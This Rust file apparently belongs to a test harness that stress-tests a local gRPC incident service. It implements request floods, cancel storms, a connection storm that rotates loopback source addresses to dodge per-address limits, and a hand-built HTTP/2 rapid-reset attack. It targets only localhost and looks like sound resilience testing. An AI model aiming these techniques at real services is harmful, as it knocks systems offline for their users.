//! What side A does to the service, as a process of its own. It goes on until its input ends, then says what became of it.

use super::ground::{SYSTEMS_A, desk, endpoint, machine, system};
use crate::story::Story;
use crate::way::word;
use clap::ValueEnum;
use handoff_client::api::incident_service_client::IncidentServiceClient;
use std::collections::BTreeMap;
use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::Path;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::pki_types::pem::PemObject;
use tokio_rustls::rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName};
use tokio_rustls::rustls::{ClientConfig, RootCertStore};
use tonic::Request;
use tonic::metadata::MetadataValue;
use tonic::transport::Channel;

/// Side A.
const SIDE: usize = 0;
/// Connections of the attacker: as many as one address may have, but for one.
const CONNECTIONS: usize = 31;
/// Calls under way on each.
const CALLS_EACH: usize = 8;
/// Who starts a call and cancels it waits so long in between: time enough for it to reach the service.
const CANCEL_AFTER: Duration = Duration::from_millis(1);
/// Addresses of this machine that connections of a storm come from, so that no limit of one address stops them.
const ADDRESSES: usize = 64;
/// Streams that are opened and reset in one go: more than may wait, in one record of TLS.
const BURST_STREAMS: u32 = 50;

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Kind {
    /// Valid commands.
    Flood,
    /// Calls with bad tokens.
    Denied,
    /// Calls that are cancelled.
    Cancel,
    /// Rapid reset.
    Reset,
    /// Connections with their handshake, and nothing on them.
    Connect,
}

impl Kind {
    pub(crate) const ALL: [Self; 5] = [Self::Flood, Self::Denied, Self::Cancel, Self::Reset, Self::Connect];

    /// Its word on the command line.
    pub(crate) fn word(self) -> &'static str {
        match self {
            Self::Flood => "flood",
            Self::Denied => "denied",
            Self::Cancel => "cancel",
            Self::Reset => "reset",
            Self::Connect => "connect",
        }
    }

    /// Its name in the report.
    pub(crate) fn says(self) -> &'static str {
        match self {
            Self::Flood => "request flood: valid commands as fast as they go",
            Self::Denied => "denial flood: calls with bad tokens",
            Self::Cancel => "cancel storm: calls started and cancelled",
            Self::Reset => "rapid reset, again after every GOAWAY",
            Self::Connect => "connection storm: handshakes, then closed",
        }
    }
}

/// How often what happened.
#[derive(Clone, Default)]
struct Tally(Arc<Mutex<BTreeMap<String, u64>>>);

impl Tally {
    fn add(&self, what: &str, count: u64) {
        let mut counts = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        *counts.entry(what.to_owned()).or_insert(0) += count;
    }
}

/// Attacks until the input ends.
pub(crate) async fn attack(kind: Kind, folder: &Path, port: u16) -> anyhow::Result<()> {
    handoff_server::tls::install_provider();
    let (tally, begun, mut tasks) = (Tally::default(), Instant::now(), JoinSet::new());
    let tls = tls(folder)?;
    for number in 0..CONNECTIONS {
        match kind {
            Kind::Flood | Kind::Denied | Kind::Cancel => {
                let name = if kind == Kind::Denied { desk(SIDE).to_owned() } else { system(SIDE, number % SYSTEMS_A) };
                let line = endpoint(folder, port, SIDE, &name)?.local_address(Some(address(1)));
                let channel = line.connect_lazy();
                for _ in 0..CALLS_EACH {
                    tasks.spawn(calls(kind, channel.clone(), tally.clone()));
                }
            }
            Kind::Reset => drop(tasks.spawn(resets(tls.clone(), port, tally.clone()))),
            Kind::Connect => drop(tasks.spawn(connects(tls.clone(), port, number, tally.clone()))),
        }
    }
    let mut rest = Vec::new();
    tokio::io::stdin().read_to_end(&mut rest).await?;
    tasks.abort_all();
    let time = begun.elapsed().as_secs_f64();
    let counts = tally.0.lock().unwrap_or_else(PoisonError::into_inner);
    let told: Vec<_> = counts.iter().map(|(what, count)| format!("{:.0}/s {what}", *count as f64 / time)).collect();
    let mut out = std::io::stdout().lock();
    writeln!(out, "{}", told.join(", "))?;
    Ok(out.flush()?)
}

/// One of the attacker's addresses; the other side has the first one of the machine.
fn address(number: usize) -> IpAddr {
    let last = u8::try_from(2 + number % ADDRESSES).unwrap_or(2);
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, last))
}

async fn calls(kind: Kind, channel: Channel, tally: Tally) {
    loop {
        let mut client = IncidentServiceClient::new(channel.clone());
        let mut request = Request::new(Story::new(0).receive());
        if kind == Kind::Denied {
            request.metadata_mut().insert("authorization", MetadataValue::from_static("Bearer no.token.atall"));
        }
        let call = client.receive(request);
        let answer = if kind == Kind::Cancel { tokio::time::timeout(CANCEL_AFTER, call).await } else { Ok(call.await) };
        match answer {
            Ok(Ok(_)) => tally.add("OK", 1),
            Ok(Err(status)) => tally.add(&word(&status), 1),
            Err(_) => tally.add("cancelled", 1),
        }
    }
}

fn tls(folder: &Path) -> anyhow::Result<TlsConnector> {
    let machine = machine(folder, SIDE, &system(SIDE, 0))?;
    let mut roots = RootCertStore::empty();
    roots.add(CertificateDer::from_pem_file(folder.join("ca.pem"))?)?;
    let chain: Result<Vec<_>, _> = CertificateDer::pem_slice_iter(machine.cert_pem.as_bytes()).collect();
    let key = PrivateKeyDer::from_pem_slice(machine.key_pem.as_bytes())?;
    let mut config = ClientConfig::builder().with_root_certificates(roots).with_client_auth_cert(chain?, key)?;
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(TlsConnector::from(Arc::new(config)))
}

async fn secured(tls: &TlsConnector, port: u16, from: IpAddr) -> anyhow::Result<TlsStream<TcpStream>> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    let stream = socket.connect(SocketAddr::from(([127, 0, 0, 1], port))).await?;
    Ok(tls.connect(ServerName::try_from("localhost")?, stream).await?)
}

async fn connects(tls: TlsConnector, port: u16, number: usize, tally: Tally) {
    for turn in number.. {
        match secured(&tls, port, address(turn)).await {
            Ok(_) => tally.add("handshakes", 1),
            Err(_) => tally.add("refused", 1),
        }
    }
}

/// A frame (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&[length[1], length[2], length[3], kind, flags], stream.to_be_bytes().as_slice(), payload].concat()
}

/// A call's header block of literals without Huffman coding, each shorter than 127 bytes (RFC 7541, 6.2.2).
fn block() -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", "/handoff.v1.IncidentService/Receive"),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ];
    let string = |text: &str| [&[u8::try_from(text.len()).unwrap_or(0)], text.as_bytes()].concat();
    fields.into_iter().flat_map(|(name, value)| [vec![0], string(name), string(value)].concat()).collect()
}

/// Opens streams and resets them until the service closes, and begins anew.
async fn resets(tls: TlsConnector, port: u16, tally: Tally) {
    const HEADERS: u8 = 0x1;
    const RST_STREAM: u8 = 0x3;
    const SETTINGS: u8 = 0x4;
    const END_HEADERS: u8 = 0x4;
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let block = block();
    loop {
        let Ok(mut stream) = secured(&tls, port, address(1)).await else {
            tally.add("refused", 1);
            continue;
        };
        tally.add("connections", 1);
        let mut bytes = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(SETTINGS, 0, 0, &[])].concat();
        let mut next = 1;
        // What the service says is of no interest; that it closes is seen by what cannot be sent any more.
        loop {
            for _ in 0..BURST_STREAMS {
                bytes.extend(frame(HEADERS, END_HEADERS, next, &block));
                bytes.extend(frame(RST_STREAM, 0, next, &CANCEL));
                next += 2;
            }
            if stream.write_all(&bytes).await.is_err() || stream.flush().await.is_err() {
                break;
            }
            tally.add("streams reset", BURST_STREAMS.into());
            bytes.clear();
        }
    }
}
